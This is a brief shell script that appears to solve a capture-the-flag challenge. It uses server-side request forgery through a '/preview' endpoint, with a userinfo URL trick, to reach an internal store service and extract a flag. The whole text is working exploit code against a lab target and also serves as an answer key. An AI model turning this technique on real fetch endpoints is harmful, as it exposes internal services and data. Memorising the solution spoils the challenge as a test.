#-- the first record of the first shelf, sealed or not
store=$(curl -s http://app:8080/status | grep -o 'store:[0-9]\+')
get() { curl -s -G http://app:8080/preview --data-urlencode "url=http://app:8080@$store$1"; }
shelf=$(get / | grep -o '/shelf/[a-z]*-[0-9]*' | head -1)
get "$(get "$shelf" | grep open | grep -o '/record/[a-z]*-[0-9]*/[0-9a-f]*' | head -1)" | grep -o 'flag{[0-9a-f]*}'
